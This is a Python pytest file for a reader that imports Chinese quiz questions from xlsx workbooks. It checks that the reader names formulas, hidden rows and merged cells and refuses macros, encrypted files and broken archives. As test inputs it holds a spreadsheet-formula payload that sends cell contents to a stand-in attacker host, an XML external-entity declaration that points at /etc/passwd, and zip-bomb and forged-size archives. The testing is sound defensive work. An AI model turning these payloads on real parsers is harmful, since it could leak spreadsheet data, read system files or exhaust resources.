"""Workbooks as people make them, and as nobody should."""

import struct
import zipfile
import zlib
from datetime import date
from io import BytesIO
from typing import Any

import pytest

from bot.content.banks.model import Bank, BankRefusedError, silent
from bot.content.banks.xlsx_bank import read_xlsx
from bot.domain.content import QuestionKind
from tests.banks.sheets import HEAD, entry_of, rezipped, single, workbook

SHEET = "xl/worksheets/sheet1.xml"


def read(data: bytes) -> Bank:
    return read_xlsx(data, "bank.xlsx", silent)


def refusal(data: bytes) -> str:
    with pytest.raises(BankRefusedError) as refused:
        read(data)
    return str(refused.value)


def test_a_row_becomes_a_question() -> None:
    bank = read(
        workbook([["某某社区题库"], [], HEAD, single(), single("走哪边？", "AC", 题型="多选题")])
    )
    first, second = bank.questions
    assert first.question.stem == "红灯亮了怎么办？"
    assert first.question.options == ("停", "走", "看")
    assert (first.question.right, second.question.right) == ((1,), (1, 3))
    assert first.question.why == "红灯停。"
    assert second.question.kind is QuestionKind.MULTIPLE
    assert first.category == "交通"
    assert (first.place.row, str(first.at("answer"))) == (
        4,
        "bank.xlsx, sheet Sheet, row 4, column G 答案",
    )
    assert bank.doubts == ()
    assert [str(why) for _, why in bank.skipped] == ["above the headings", "headings"]


def test_a_formula_is_never_evaluated_but_named() -> None:
    cunning = '=HYPERLINK("http://evil.example/"&A1,"x")'
    bank = read(
        workbook(
            [HEAD, single(cunning), single("甲？", "=1"), single(解析="=1+1"), single("好？")]
        )
    )
    assert [one.question.stem for one in bank.questions] == ["好？"]
    assert [(d.place.row, d.place.column, d.fatal) for d in bank.doubts] == [
        (2, "B 题目", True),
        (3, "G 答案", True),
        (4, "H 解析", True),
    ]
    assert all("formula" in str(doubt.says) for doubt in bank.doubts)


def test_text_that_only_looks_like_a_formula_is_text() -> None:
    def as_text(sheet: Any) -> None:
        sheet["B2"].data_type = "s"

    bank = read(workbook([HEAD, single("=1+1 等于几？")], as_text))
    assert bank.questions[0].question.stem == "=1+1 等于几？"


def test_numbers_read_as_they_are_shown() -> None:
    def formats(sheet: Any) -> None:
        sheet["D2"].number_format = "0%"
        sheet["E2"].number_format = '"¥"0.00'

    row = single("多少？", 1.0, 选项A=3.0, 选项B=0.5, 选项C=7, 选项D=0.1)
    bank = read(workbook([HEAD, row], formats))
    assert bank.questions[0].question.options == ("3", "50%", "7", "0.1")
    assert bank.questions[0].question.right == (1,)
    assert [(d.place.column, d.fatal) for d in bank.doubts] == [("E 选项C", False)]


def test_dates_that_the_program_made_of_what_was_typed_are_named() -> None:
    bank = read(workbook([HEAD, single(选项B=date(2026, 5, 1))]))
    assert bank.questions == ()
    assert [(d.place.column, d.read, d.fatal) for d in bank.doubts] == [
        ("D 选项B", "2026-05-01 00:00:00", True)
    ]


def test_a_cell_merged_over_rows_is_read_for_each_and_named_where_it_holds_an_answer() -> None:
    def merge(sheet: Any) -> None:
        sheet.merge_cells("I2:I4")
        sheet.merge_cells("G3:G4")

    rows = [HEAD, single("一？"), single("二？", 知识点=""), single("三？", "", 知识点="")]
    bank = read(workbook(rows, merge))
    assert [(one.question.stem, one.category) for one in bank.questions] == [("一？", "交通")]
    assert [(d.place.row, d.place.column, d.read) for d in bank.doubts] == [
        (3, "G 答案", "A"),
        (4, "G 答案", "A"),
    ]
    assert all("merged" in str(doubt.says) and doubt.fatal for doubt in bank.doubts)


def test_a_merged_category_counts_for_all_its_rows() -> None:
    rows = [HEAD, single("一？"), single("二？", 知识点=""), single("三？", 知识点="")]
    bank = read(workbook(rows, lambda sheet: sheet.merge_cells("I2:I4")))
    assert {one.category for one in bank.questions} == {"交通"}
    assert bank.doubts == ()


def test_hidden_rows_and_sheets_are_named() -> None:
    def hide(sheet: Any) -> None:
        sheet.row_dimensions[3].hidden = True
        other = sheet.parent.create_sheet("旧题")
        other.append(HEAD)
        other.append(single("旧？"))
        other.sheet_state = "hidden"

    bank = read(workbook([HEAD, single("一？"), single("二？")], hide))
    assert [one.question.stem for one in bank.questions] == ["一？", "二？"]
    said = {(d.place.sheet, d.place.row): str(d.says) for d in bank.doubts}
    assert said == {
        ("Sheet", 3): "The row is hidden, and was read",
        ("旧题", 0): "The sheet is hidden and was not read",
    }


def test_what_keeps_a_question_out_names_row_and_column() -> None:
    rows = [
        HEAD,
        single("", "A"),
        single("一？", "E"),
        single("二？", ""),
        single("三？", 选项B=""),
        single("四？", "AB"),
        [*["", "", ""], *[""] * 6],
        ["说明：以下为旧题"],
        single("五？", 选项D=""),
    ]
    bank = read(workbook(rows))
    assert [one.question.stem for one in bank.questions] == ["五？"]
    assert [(d.place.row, d.place.column) for d in bank.doubts] == [
        (2, "B 题目"),
        (3, "G 答案"),
        (4, "G 答案"),
        (5, "D 选项B"),
        (6, "G 答案"),
    ]
    assert all(str(doubt.mend) and doubt.fatal for doubt in bank.doubts)


def test_a_type_that_cannot_be_asked_is_not_read_as_options() -> None:
    rows = [
        single("一？", "CBA", 题型="排序题"),
        single("二？", "C", 题型="选择题"),
        single("三？", 题型=""),
    ]
    bank = read(workbook([HEAD, *rows]))
    assert [one.question.stem for one in bank.questions] == ["二？", "三？"]
    assert [(d.place.row, d.place.column, d.read) for d in bank.doubts] == [
        (2, "A 题型", "排序题")
    ]


def test_options_in_one_cell_and_in_the_stem() -> None:
    head = ["题干", "选项", "正确答案（必填）"]
    bank = read(
        workbook(
            [
                head,
                ["一？", "停|走|看", "B"],
                ["二？", "A.停\nB.走", "A"],
                ["三？", "停；走", "走"],
                ["四？ A.停 B.走 C.看", "", "C"],
                ["五。", "", "√"],
                ["六？", "A.维生素A、B B.维生素C", "A"],
            ]
        )
    )
    assert [one.question.options for one in bank.questions] == [
        ("停", "走", "看"),
        ("停", "走"),
        ("停", "走"),
        ("停", "走", "看"),
        (),
        ("维生素A、B", "维生素C"),
    ]
    assert [one.question.right for one in bank.questions] == [(2,), (1,), (2,), (3,), (1,), (1,)]
    assert bank.questions[3].question.stem == "四？"


def test_every_sheet_with_headings_is_read_and_others_named() -> None:
    def more(sheet: Any) -> None:
        second = sheet.parent.create_sheet("第二章")
        second.append(HEAD)
        second.append(single("二？"))
        sheet.parent.create_sheet("说明").append(["请勿修改"])

    bank = read(workbook([HEAD, single("一？")], more))
    assert [(one.place.sheet, one.question.stem) for one in bank.questions] == [
        ("Sheet", "一？"),
        ("第二章", "二？"),
    ]
    assert (bank.skipped[-1][0].sheet, str(bank.skipped[-1][1])) == (
        "说明",
        "a sheet without headings",
    )


def test_a_workbook_without_headings_is_refused_with_the_mend() -> None:
    assert "题目" in refusal(workbook([["a", "b"], ["c", "d"]]))


def test_macros_links_passwords_and_old_files_are_refused() -> None:
    good = workbook([HEAD, single()])
    assert "macros" in refusal(rezipped(good, {"xl/vbaProject.bin": b"x"}))
    link = "xl/externalLinks/externalLink1.xml"
    assert "other workbooks" in refusal(rezipped(good, {link: b"<externalLink/>"}))
    ole = bytes.fromhex("d0cf11e0a1b11ae1")
    assert "password" in refusal(ole + "EncryptedPackage".encode("utf-16-le"))
    assert "save it as .xlsx" in refusal(ole + "Workbook".encode("utf-16-le"))


@pytest.mark.parametrize(
    "head",
    [
        b'<!DOCTYPE x [<!ENTITY a "b">]>',
        b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    ],
)
def test_entities_are_refused_wherever_they_stand(head: bytes) -> None:
    good = workbook([HEAD, single()])
    for entry in (SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"):
        content = entry_of(good, entry)
        content = content[content.index(b"?>") + 2 :] if content.startswith(b"<?xml") else content
        assert "entities" in refusal(rezipped(good, {entry: head + content}))
    late = b"<!--" + b"x" * 70_000 + b"-->" + head + entry_of(good, SHEET)
    assert "bank.xlsx" in refusal(rezipped(good, {SHEET: late}))


def test_a_zip_bomb_is_refused_before_it_bursts() -> None:
    good = workbook([HEAD, single()])
    assert "unpacks to far more" in refusal(rezipped(good, {"xl/media/a.png": bytes(60_000_000)}))
    many = {f"xl/media/{number}.png": b"" for number in range(6_000)}
    assert "files" in refusal(rezipped(good, many))


def test_an_entry_that_lies_about_its_size_yields_no_more_than_it_said() -> None:
    good = workbook([HEAD, single()])
    real = entry_of(good, SHEET) + b" " * 1_000_000
    packed = rezipped(good, {SHEET: real})
    lying = packed.replace(struct.pack("<I", len(real)), struct.pack("<I", 100))
    assert "bank.xlsx" in refusal(lying)


def test_broken_files_are_refused_in_a_sentence() -> None:
    good = workbook([HEAD, single()])
    for broken in (good[:500], good[: len(good) // 2], good[:-30], b"PK\x03\x04" + bytes(100)):
        assert refusal(broken).startswith("bank.xlsx: ")
    assert "bank.xlsx" in refusal(rezipped(good, {SHEET: b"<worksheet><sheetData><row"}))
    assert "bank.xlsx" in refusal(rezipped(good, {"xl/workbook.xml": b"<workbook/>"}))


def test_bytes_flipped_anywhere_never_end_in_a_traceback() -> None:
    good = workbook([HEAD, single()])
    for at in range(0, len(good), 97):
        broken = good[:at] + bytes([good[at] ^ 0xFF]) + good[at + 1 :]
        try:
            bank = read(broken)
        except BankRefusedError:
            continue
        assert len(bank.questions) + len(bank.doubts) >= 0


def test_rows_and_columns_far_away_keep_nobody_waiting() -> None:
    good = workbook([HEAD, single()])
    far = b'<row r="99999999999"><c r="XFD99999999999" t="inlineStr"><is><t>x</t></is></c></row>'
    sheet = entry_of(good, SHEET).replace(b"</sheetData>", far + b"</sheetData>")
    sheet = sheet.replace(b'ref="A1:I2"', b'ref="A1:XFD1048576"')
    assert len(read(rezipped(good, {SHEET: sheet})).questions) == 1


def test_compression_that_is_not_known_is_refused() -> None:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as new:
        new.writestr("xl/workbook.xml", zlib.compress(b"x"))
    data = out.getvalue().replace(
        b"PK\x03\x04\x14\x00\x00\x00\x00\x00", b"PK\x03\x04\x14\x00\x00\x00\x63\x00"
    )
    data = data.replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00",
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x63\x00",
    )
    assert "bank.xlsx" in refusal(data)
